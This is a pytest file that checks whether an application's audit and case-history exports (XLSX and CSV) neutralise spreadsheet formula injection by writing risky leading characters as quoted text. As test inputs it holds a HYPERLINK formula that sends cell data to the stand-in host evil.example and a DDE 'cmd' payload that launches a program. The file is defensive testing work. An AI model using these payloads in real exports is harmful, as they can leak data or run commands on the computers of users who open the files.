"""Every export writes a text that begins with = + - @, a tab or a carriage return as text, never as a
formula: a customer named =HYPERLINK(...) is no live link in compliance's audit export (XLSX and CSV), nor
in a case's history CSV."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from app.documents import sheets
from tests.factories import case_at

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def evil_case(people, deployed):
    return case_at("review", people.officer, customer_name=EVIL, purpose="+cmd|' /C calc'!A0\r\n@SUM(1)")


def test_the_audit_xlsx_holds_no_formula_cell(as_user, evil_case):
    response = as_user("compliance").get("/audit/export.xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    named = [c for c in cells if c.value == EVIL]
    assert named and all(
        c.data_type == "s" and c.quotePrefix for c in named
    )  # the name kept exactly, as text


@pytest.mark.parametrize("url", ["/audit/export.csv", "/cases/{case_id}/history.csv"])
def test_a_csv_export_starts_no_cell_with_a_formula(as_user, evil_case, url):
    response = as_user("compliance").get(url.format(case_id=evil_case.id))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [
        cell for cell in cells if cell.startswith(STARTS) and not sheets._PLAIN_NUMBER.fullmatch(cell)
    ]
    assert "'" + EVIL in cells or any(EVIL in cell for cell in cells)


@pytest.mark.parametrize("value", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_one_rule_for_every_cell(value):
    assert sheets.csv_cell(value) == "'" + value
    book = openpyxl.load_workbook(io.BytesIO(sheets.xlsx_bytes("t", [[value, -5, "-5", "plain"]])))
    first, number, text, plain = next(book.active.iter_rows())
    assert first.value == value and first.data_type == "s" and first.quotePrefix
    assert number.value == -5 and text.value == "-5" and not text.quotePrefix and not plain.quotePrefix
    assert sheets.csv_cell("-5") == "-5" and sheets.csv_cell("-12.5") == "-12.5"
